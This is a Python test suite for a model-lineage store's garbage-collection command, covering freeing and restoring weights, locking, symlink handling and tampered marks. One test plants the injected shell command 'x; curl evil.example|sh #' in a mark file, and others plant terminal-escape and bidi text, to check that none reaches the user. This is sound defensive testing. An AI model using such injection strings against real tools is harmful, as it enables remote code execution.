"""`gc` frees weights that nothing needs and never a record; what was freed is told from what is lost."""

import json
import shlex
import shutil
import subprocess
from dataclasses import replace
from itertools import product
from pathlib import Path
from typing import Any

import pytest
from support.lineage_factory import PROMOTED, REJECTED, SETTINGS, build

from bootstrap import schema
from bootstrap.canonical import canonical_json, digest_of
from bootstrap.cli.gc import _named_elsewhere as named_elsewhere
from bootstrap.cli.main import main
from bootstrap.config.recipe import Recipe
from bootstrap.errors import LineageLocked, StoreCorrupt, StoreError, WeightsFreed
from bootstrap.ledger_records import DiagnosticMetric, Diagnostics, Generation, GuardAction, GuardBreach
from bootstrap.lineage.text import si
from bootstrap.stages.needed import needed
from bootstrap.store import durable, gc
from bootstrap.store.artifacts import put_artifact
from bootstrap.store.fingerprint import ADAPTER_WEIGHTS, MODEL_WEIGHTS
from bootstrap.store.freed import FILE_NAME
from bootstrap.store.lineage_store import HEADER_NAME, Header, LineageStore
from bootstrap.store.lock import lineage_lock
from bootstrap.store.verify import verify

PLAN = (PROMOTED, REJECTED, PROMOTED, REJECTED, REJECTED, PROMOTED, REJECTED)
"""Generation 6 is the champion, 7 the last one."""


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("built") / "addition"
    build(root, plan=PLAN)
    return root


@pytest.fixture
def store(built: Path, tmp_path: Path) -> LineageStore:
    shutil.copytree(built, tmp_path / "runs" / "addition")
    return LineageStore(tmp_path / "runs" / "addition")


@pytest.fixture
def committed(built: Path) -> list[Generation]:
    return [entry.generation for entry in LineageStore(built).ledger.read()]


def run(store: LineageStore, *arguments: object, code: int = 0) -> None:
    assert main([str(argument) for argument in (*arguments, "--store", store.root.parent)]) == code


def freed(store: LineageStore) -> list[int]:
    return [number for number, size in gc.sizes(store, store.ledger.read()).items() if size.is_freed]


def weights(store: LineageStore, number: int) -> Path:
    return store.root / store.ledger.read()[number].generation.artifacts["weights"].path


def test_without_a_yes_nothing_changes_and_all_is_told(store: LineageStore, capsys: pytest.CaptureFixture[str]) -> None:
    before = {path: path.read_bytes() for path in store.root.rglob("*") if path.is_file()}
    run(store, "gc", "--keep", "champion,last=2")
    text = capsys.readouterr().out
    assert "nothing is freed yet; add --yes" in text
    assert text.count("can go") == 5
    assert "can be freed" in text and "the champion" in text and "last=2" in text
    assert {path: path.read_bytes() for path in store.root.rglob("*") if path.is_file()} == before


def test_what_is_not_kept_is_freed_and_every_record_stays(
    store: LineageStore, capsys: pytest.CaptureFixture[str]
) -> None:
    ledger = {path: path.read_bytes() for path in store.ledger.folder.iterdir()}
    folders = [path.name for path in store.artifact_folders()]
    run(store, "gc", "--keep", "champion,last=2", "--yes")
    assert "freed " in capsys.readouterr().out
    assert freed(store) == [1, 2, 3, 4, 5]
    assert {path: path.read_bytes() for path in store.ledger.folder.iterdir()} == ledger
    assert [path.name for path in store.artifact_folders()] == folders
    for number in range(8):
        files = {path.name for path in weights(store, number).iterdir()}
        assert (MODEL_WEIGHTS in files) is (number not in freed(store))
        assert {"manifest.json", "config.json"} <= files


def test_verify_tells_freed_from_lost(store: LineageStore, capsys: pytest.CaptureFixture[str]) -> None:
    run(store, "gc", "--keep", "champion,last=2", "--yes")
    report = verify(store.root)
    assert report.is_clean, report.problems
    assert len(report.freed) == 5
    run(store, "verify")
    assert "weights freed by `bootstrap gc`: 5" in capsys.readouterr().out
    lost = weights(store, 7) / MODEL_WEIGHTS
    lost.unlink()
    [problem] = verify(store.root).problems
    assert str(lost) in problem.message and "missing" in problem.message


@pytest.mark.parametrize("damage", ["removed", "damaged", "of another file"])
def test_without_a_sound_mark_freed_weights_count_as_lost(store: LineageStore, damage: str) -> None:
    run(store, "gc", "--keep", "champion,last=2", "--yes")
    mark = weights(store, 1) / FILE_NAME
    found = json.loads(mark.read_text())
    mark.unlink()
    if damage != "removed":
        mark.write_bytes(b"{" if damage == "damaged" else canonical_json({**found, "files": ["config.json"]}))
    assert [problem.path for problem in verify(store.root).problems] == [str(weights(store, 1))]


def test_a_mark_excuses_no_other_file_than_weights(store: LineageStore) -> None:
    folder = store.root / store.ledger.read()[1].generation.artifacts["evaluation"].path
    (folder / "report.json").unlink()
    mark = {"files": ["report.json"], "generations": [1], "lineage": "addition", "when": "2026-01-01"}
    (folder / FILE_NAME).write_bytes(canonical_json(mark))
    assert [problem.path for problem in verify(store.root).problems] == [str(folder)]


def test_what_needs_freed_weights_is_told_how_to_get_them(
    store: LineageStore, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    run(store, "gc", "--keep", "champion,last=2", "--yes")
    capsys.readouterr()
    run(store, "export", "gen-3", tmp_path / "out", code=3)
    message = capsys.readouterr().err
    assert "gen-3 of lineage addition were freed by `bootstrap gc`" in message
    where = f"--store {store.root.parent} --lineage addition"
    assert f"`bootstrap reproduce gen-3 {where} --into DIR`" in message
    assert f"`bootstrap gc --restore DIR {where}`" in message
    ref = store.ledger.read()[3].generation.artifacts["weights"]
    with pytest.raises(WeightsFreed):
        store.artifact(ref).read_all()
    assert store.artifact(ref).read("config.json")


def test_show_and_lineage_go_on_with_freed_weights(store: LineageStore, capsys: pytest.CaptureFixture[str]) -> None:
    run(store, "gc", "--keep", "champion,last=2", "--yes")
    capsys.readouterr()
    run(store, "show", "gen-3")
    assert "gen-3" in capsys.readouterr().out
    run(store, "lineage")
    text = capsys.readouterr().out
    assert text.count("freed") == 6 and "5 freed" in text
    run(store, "lineage", "--json")
    rows = json.loads(capsys.readouterr().out)["addition"]
    assert [row["weights"]["freed"] for row in rows] == [number in (1, 2, 3, 4, 5) for number in range(8)]
    assert rows[7]["weights"]["bytes"] == (weights(store, 7) / MODEL_WEIGHTS).stat().st_size


@pytest.mark.parametrize("where", ["copy", "copy/addition"])
def test_freed_weights_come_back_from_an_exported_model_and_from_a_copy(
    store: LineageStore, capsys: pytest.CaptureFixture[str], tmp_path: Path, where: str
) -> None:
    run(store, "export", "gen-3", tmp_path / "model")
    data = {number: (weights(store, number) / MODEL_WEIGHTS).read_bytes() for number in (3, 4)}
    copy = tmp_path / "copy" / "addition" / "artifacts" / "weights-x"
    copy.mkdir(parents=True)
    (copy / MODEL_WEIGHTS).write_bytes(data[4])
    run(store, "gc", "--keep", "champion,last=2", "--yes")
    run(store, "gc", "--restore", tmp_path / "model")
    assert freed(store) == [1, 2, 4, 5]
    run(store, "gc", "--restore", tmp_path / where)
    assert freed(store) == [1, 2, 5]
    assert all((weights(store, n) / MODEL_WEIGHTS).read_bytes() == found for n, found in data.items())
    assert not (weights(store, 3) / FILE_NAME).exists()
    assert verify(store.root).is_clean
    capsys.readouterr()
    run(store, "gc", "--restore", tmp_path / "model", code=2)
    assert "holds no weights that were freed" in capsys.readouterr().err


def test_an_archive_to_restore_from_is_unpacked_first(
    store: LineageStore, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    run(store, "export", "--lineage", "addition", tmp_path / "full copy.tar")
    run(store, "gc", "--keep", "champion", "--yes")
    capsys.readouterr()
    run(store, "gc", "--restore", tmp_path / "full copy.tar", code=2)
    message = capsys.readouterr().err
    unpack = message.split("`")[1]
    assert unpack == f"mkdir DIR && tar xf '{tmp_path}/full copy.tar' -C DIR"
    subprocess.run(unpack, shell=True, check=True, cwd=tmp_path, timeout=60)
    run(store, "gc", "--restore", tmp_path / "DIR")
    assert freed(store) == []


def test_copies_that_publishing_has_made_are_told_and_give_weights_back(
    store: LineageStore, capsys: pytest.CaptureFixture[str]
) -> None:
    copies = {}
    for number in (1, 6):
        copies[number] = store.root.parent / f"mlflow-artifacts/models/m-{number}/artifacts/model"
        shutil.copytree(weights(store, number), copies[number])
    (store.root.parent / "mlflow-artifacts/models/m-other/artifacts/model").mkdir(parents=True)
    size = (copies[1] / MODEL_WEIGHTS).stat().st_size
    run(store, "gc", "--keep", "champion", "--json")
    assert json.loads(capsys.readouterr().out)["addition"]["copied_to_mlflow_bytes"] == size
    run(store, "gc", "--keep", "champion", "--yes")
    told = capsys.readouterr().out
    assert f"publishing has copied {si(size, unit='B')} of them into {store.root.parent}/mlflow-artifacts" in told
    assert (copies[1] / MODEL_WEIGHTS).is_file()
    run(store, "gc", "--restore", store.root.parent)
    assert freed(store) == [2, 3, 4, 5, 7]


def test_weights_that_are_made_again_are_whole_again(store: LineageStore) -> None:
    data = {name: (weights(store, 3) / name).read_bytes() for name in store.artifact(_ref(store, 3)).files}
    run(store, "gc", "--keep", "champion,last=2", "--yes")
    with pytest.raises(StoreError, match="has another SHA-256"):
        put_artifact(store.artifacts_folder, "weights", {"n": 3}, {**data, MODEL_WEIGHTS: b"other"})
    assert store.put("weights", {"n": 3}, data).read_all() == data
    assert freed(store) == [1, 2, 4, 5]
    assert verify(store.root).is_clean


def _ref(store: LineageStore, number: int) -> Any:
    return store.ledger.read()[number].generation.artifacts["weights"]


def test_a_kill_between_mark_and_removal_frees_nothing_unnoticed(
    store: LineageStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    held = gc.weights_of_lineage(store, store.ledger.read(), {})

    class Killed(Exception):
        pass

    def killed(*_: object, **__: object) -> None:
        raise Killed

    monkeypatch.setattr(durable, "remove_file", killed)
    with pytest.raises(Killed):
        gc.free(store, held[:1])
    monkeypatch.undo()
    assert freed(store) == []
    report = verify(store.root)
    assert report.is_clean and not report.freed
    gc.free(store, gc.weights_of_lineage(store, store.ledger.read(), {})[:1])
    assert freed(store) == [0]


def test_a_kill_between_two_removals_loses_nothing(store: LineageStore, monkeypatch: pytest.MonkeyPatch) -> None:
    made = store.put("weights", {"fingerprint": "a" * 64}, {MODEL_WEIGHTS: b"whole", ADAPTER_WEIGHTS: b"adapter"})
    store.put("step", {"generation": 2, "step": 0}, {"result.json": canonical_json({"fingerprint": "a" * 64})})

    def of_both() -> list[gc.Held]:
        found = gc.weights_of_lineage(store, store.ledger.read(), {})
        return [one for one in found if one.artifact.path == made.path]

    removed = list[Path]()

    def killed(path: Path, **_: object) -> None:
        if removed:
            raise KeyboardInterrupt
        path.unlink()
        removed.append(path)

    with monkeypatch.context() as patch:
        patch.setattr(durable, "remove_file", killed)
        with pytest.raises(KeyboardInterrupt):
            gc.free(store, of_both())
    gc.free(store, of_both())
    [one] = of_both()
    assert one.artifact.freed is not None and set(one.artifact.freed.files) == {MODEL_WEIGHTS, ADAPTER_WEIGHTS}
    assert verify(store.root).is_clean


def test_a_second_time_frees_nothing_more(store: LineageStore, capsys: pytest.CaptureFixture[str]) -> None:
    run(store, "gc", "--keep", "champion,last=2", "--yes")
    mark = (weights(store, 1) / FILE_NAME).read_bytes()
    capsys.readouterr()
    run(store, "gc", "--keep", "champion,last=2", "--yes")
    assert "nothing to free" in capsys.readouterr().out
    assert (weights(store, 1) / FILE_NAME).read_bytes() == mark


def test_nothing_is_freed_while_a_run_writes_the_lineage(store: LineageStore) -> None:
    with lineage_lock(store.root):
        run(store, "gc", "--yes", code=LineageLocked.exit_code)
    assert freed(store) == []


def test_a_lineage_that_a_run_writes_stops_none_of_the_others(
    store: LineageStore, capsys: pytest.CaptureFixture[str]
) -> None:
    others = {name: LineageStore(store.root.with_name(name)) for name in ("between", "zuletzt")}
    for other in others.values():
        shutil.copytree(store.root, other.root)
    with lineage_lock(others["between"].root):
        run(store, "gc", "--keep", "champion", "--yes", "--json", code=LineageLocked.exit_code)
        told = capsys.readouterr()
        assert freed(store) == freed(others["zuletzt"]) == [1, 2, 3, 4, 5, 7]
        assert freed(others["between"]) == []
        found = json.loads(told.out)
        assert {name: "error" in one for name, one in found.items()} == {
            "addition": False, "between": True, "zuletzt": False
        }  # fmt: skip
        assert found["zuletzt"]["freed_bytes"] > 0 == found["between"]["freed_bytes"]
        assert told.err.count("error: ") == 1 and str(others["between"].root) in told.err
        data = store.root.parent / "elsewhere"
        data.mkdir()
        shutil.copy(weights(others["between"], 1) / MODEL_WEIGHTS, data)
        run(store, "gc", "--restore", data, code=LineageLocked.exit_code)
        assert freed(store) == freed(others["zuletzt"]) == [2, 3, 4, 5, 7]


def test_nothing_is_freed_where_one_lineage_lacks_what_keep_names(store: LineageStore) -> None:
    build(store.root.with_name("short"), plan=(PROMOTED,), name="short")
    run(store, "gc", "--keep", "gen-5", "--yes", code=2)
    assert freed(store) == []


def test_a_damaged_lineage_stops_none_of_the_others(store: LineageStore, capsys: pytest.CaptureFixture[str]) -> None:
    other = LineageStore(store.root.with_name("aaa"))
    shutil.copytree(store.root, other.root)
    (weights(other, 3) / MODEL_WEIGHTS).unlink()
    run(store, "gc", "--keep", "champion", "--yes", code=StoreCorrupt.exit_code)
    assert "missing" in capsys.readouterr().err
    assert freed(store) == [1, 2, 3, 4, 5, 7] and freed(other) == []


@pytest.mark.parametrize(
    ("keep", "expected"),
    [
        ("champion", [1, 2, 3, 4, 5, 7]),
        ("", [1, 2, 3, 4, 5, 7]),
        ("last=1", [1, 2, 3, 4, 5]),
        ("last=0", [1, 2, 3, 4, 5, 7]),
        ("promoted", [2, 4, 5, 7]),
        ("gen-2, 4", [1, 3, 5, 7]),
        ("last=99", []),
    ],
)
def test_keep_names_what_stays(store: LineageStore, keep: str, expected: list[int]) -> None:
    run(store, "gc", "--keep", keep, "--yes")
    assert freed(store) == expected


def test_an_unknown_name_is_refused_with_the_forms(store: LineageStore, capsys: pytest.CaptureFixture[str]) -> None:
    run(store, "gc", "--keep", "champion,lst=3", code=2)
    assert "--keep takes champion, promoted, base, last=N" in capsys.readouterr().err


def test_what_another_lineage_starts_from_stays(store: LineageStore) -> None:
    other = LineageStore(store.root.parent / "other")
    build(other.root, plan=(PROMOTED,), name="other")
    entry = store.ledger.read()[2]
    origin = {
        "type": "generation",
        "lineage": "addition",
        "number": 2,
        "record": entry.hash,
        "fingerprint": entry.generation.fingerprint,
    }
    identity = other.header().identity
    identity = {**identity, "base": {**identity["base"], "model": origin}}
    header = Header(lineage="other", identity=identity, digest=digest_of(schema.hashed(identity)))
    durable.write_file(other.root / HEADER_NAME, canonical_json(header.model_dump(mode="json")))
    run(store, "gc", "--keep", "champion", "--lineage", "addition", "--yes")
    assert freed(store) == [1, 3, 4, 5, 7]


def test_weights_between_steps_go_with_their_generation_and_unfinished_work_stays(store: LineageStore) -> None:
    def step(number: int, fingerprint: str) -> Path:
        made = store.put("weights", {"fingerprint": fingerprint}, {MODEL_WEIGHTS: fingerprint.encode()})
        result = {"result.json": canonical_json({"fingerprint": fingerprint})}
        store.put("step", {"generation": number, "step": 0}, result)
        return made.path / MODEL_WEIGHTS

    done, under_way = step(2, "a" * 64), step(8, "b" * 64)
    alone = store.put("weights", {"fingerprint": "c" * 64}, {MODEL_WEIGHTS: b"c"}).path / MODEL_WEIGHTS
    run(store, "gc", "--keep", "champion", "--yes")
    assert not done.exists()
    assert under_way.exists() and alone.exists()


def test_unfinished_work_keeps_weights_that_a_committed_generation_has_too(store: LineageStore) -> None:
    # A merge of the same models after a rejected one: gen-8 has finished the step that gen-2 was made by.
    shared = store.put("weights", {"fingerprint": "a" * 64}, {MODEL_WEIGHTS: b"shared"})
    between = store.put("weights", {"fingerprint": "b" * 64}, {MODEL_WEIGHTS: b"between"})
    for number, letter in product((2, 8), "ab"):
        result = {"result.json": canonical_json({"fingerprint": letter * 64})}
        store.put("step", {"generation": number, "step": letter}, result)
    entries = store.ledger.read()
    refs = {**entries[2].generation.artifacts, "weights": shared.ref(store.root)}
    merged = replace(entries[2], generation=entries[2].generation.model_copy(update={"artifacts": refs}))
    named = [*entries[:2], merged, *entries[3:]]
    held = {one.artifact.path: one for one in gc.weights_of_lineage(store, named, {})}
    assert (held[shared.path].generations, held[shared.path].kept) == ((2,), "unfinished work")
    assert held[between.path].kept == "unfinished work"
    assert not held[weights(store, 1)].kept


def test_a_base_stays_under_an_adapter_that_stays(store: LineageStore) -> None:
    entries = store.ledger.read()
    base = store.put("weights", {"fingerprint": "d" * 64}, {MODEL_WEIGHTS: b"base"})
    refs = {**entries[6].generation.artifacts, "base": base.ref(store.root)}
    adapted = entries[6].generation.model_copy(update={"artifacts": refs})
    changed = [*entries[:6], replace(entries[6], generation=adapted), *entries[7:]]
    held = {one.artifact.path: one for one in gc.weights_of_lineage(store, changed, {6: "the champion"})}
    assert held[base.path].kept == "under the adapter of gen-6"
    assert held[base.path].name == "base of adapters"
    held = {one.artifact.path: one for one in gc.weights_of_lineage(store, changed, {0: "base"})}
    assert not held[base.path].kept


def changed(**settings: Any) -> Recipe:
    return Recipe.model_validate({**SETTINGS.model_dump(mode="json"), **settings})


def test_what_the_next_generation_learns_from_is_needed(committed: list[Generation]) -> None:
    assert set(needed(SETTINGS, committed)) == {0, 6}
    step = {"type": "distill", "updates": 3, "distillation": {"loss": "forward_kl", "teacher": 2}}
    stages = [
        {"name": "first", "generations": 7, "steps": [{"type": "rl", "rounds": 2}]},
        {"name": "second", "generations": 2, "init": "previous", "steps": [step]},
    ]
    why = needed(changed(generations={"stages": stages}), committed)
    assert set(why) == {0, 2, 6, 7}
    assert why[2].startswith("gen-8 learns from it") and why[7].startswith("gen-8 starts from it")


def test_a_finished_lineage_keeps_what_more_generations_would_need(committed: list[Generation]) -> None:
    finished = changed(generations={"count": 7, "init": "previous", "steps": [{"type": "rl", "rounds": 2}]})
    assert set(needed(finished, committed)) == {0, 6, 7}


def test_stages_to_come_keep_what_they_name(committed: list[Generation]) -> None:
    rl = [{"type": "rl", "rounds": 2}]
    stages = [
        {"name": "first", "generations": 2, "steps": rl},
        {"name": "second", "generations": 2, "steps": rl},
        {"name": "third", "generations": 1, "init": 1, "steps": rl},
    ]
    staged = changed(generations={"stages": stages})
    assert set(needed(staged, committed[:4])) == {0, 1, 3}
    assert set(needed(staged, committed[:1])) == {0}


def test_a_guard_that_returns_to_an_earlier_champion_keeps_it(committed: list[Generation]) -> None:
    breach = GuardBreach(metric=DiagnosticMetric.TRUNCATED, value=0.2, side="max", bound=0.1, action=GuardAction.WARN)
    committed[6] = committed[6].model_copy(update={"diagnostics": Diagnostics(findings=(breach,))})
    guarded = changed(guards=[{"metric": "truncated", "max": 0.3, "action": "roll_back"}])
    assert needed(guarded, committed)[3] == "a guard may return to it"
    assert 3 not in needed(SETTINGS, committed)


@pytest.mark.parametrize("link", ["the folder", "a file", "the lineage"])
def test_links_that_lead_out_of_a_lineage_are_not_followed(store: LineageStore, tmp_path: Path, link: str) -> None:
    elsewhere = tmp_path / "elsewhere"
    folder = weights(store, 1)
    place = {"the folder": folder, "a file": folder / MODEL_WEIGHTS, "the lineage": store.root}[link]
    place.rename(elsewhere)
    place.symlink_to(elsewhere)
    before = {path: path.read_bytes() for path in (elsewhere, *elsewhere.rglob("*")) if path.is_file()}
    assert before
    run(store, "gc", "--keep", "champion", "--yes", code=3)
    assert {path: path.read_bytes() for path in (elsewhere, *elsewhere.rglob("*")) if path.is_file()} == before


def test_an_artifact_cannot_bring_its_own_mark(store: LineageStore) -> None:
    with pytest.raises(StoreError, match=FILE_NAME):
        store.put("weights", {"x": 1}, {FILE_NAME: b"{}"})


def test_a_generation_of_another_lineage_without_weights_is_no_obstacle(store: LineageStore) -> None:
    entries = store.ledger.read()
    without = entries[3].generation.model_copy(
        update={"artifacts": {role: ref for role, ref in entries[3].generation.artifacts.items() if role != "weights"}}
    )
    build(store.root.with_name("other"), plan=(PROMOTED,), name="other")
    assert named_elsewhere(store, [*entries[:3], replace(entries[3], generation=without), *entries[4:]]) == {}


def test_a_command_in_a_mark_is_never_told(store: LineageStore) -> None:
    moved = LineageStore(store.root.with_name("it's"))
    run(store, "gc", "--keep", "champion", "--yes")
    mark = weights(store, 1) / FILE_NAME
    found = json.loads(mark.read_text())
    mark.unlink()
    mark.write_text(json.dumps({**found, "lineage": "x; curl evil.example|sh #"}))
    store.root.rename(moved.root)
    with pytest.raises(WeightsFreed) as raised:
        moved.artifact(_ref(moved, 1)).read(MODEL_WEIGHTS)
    told = str(raised.value)
    assert "evil" not in told
    words = shlex.split(told.split("`")[3])
    assert words[words.index("--store") + 1] == str(moved.root.parent)
    assert words[words.index("--lineage") + 1] == "it's"


@pytest.mark.parametrize(("field", "text"), [("lineage", "\u202etxt"), ("when", "\u202e"), ("when", "soon; `x`")])
def test_a_mark_with_text_that_none_of_ours_has_counts_for_nothing(store: LineageStore, field: str, text: str) -> None:
    run(store, "gc", "--keep", "champion", "--yes")
    mark = weights(store, 1) / FILE_NAME
    found = json.loads(mark.read_text())
    mark.unlink()
    mark.write_text(json.dumps({**found, field: text}))
    with pytest.raises(StoreCorrupt, match="missing"):
        store.artifact(_ref(store, 1))


def test_text_in_a_mark_cannot_reach_the_terminal(store: LineageStore) -> None:
    run(store, "gc", "--keep", "champion", "--yes")
    mark = weights(store, 1) / FILE_NAME
    found = json.loads(mark.read_text())
    mark.unlink()
    mark.write_text(json.dumps({**found, "lineage": "\x1b[2Jx"}))
    with pytest.raises(StoreCorrupt, match="missing"):
        store.artifact(_ref(store, 1))
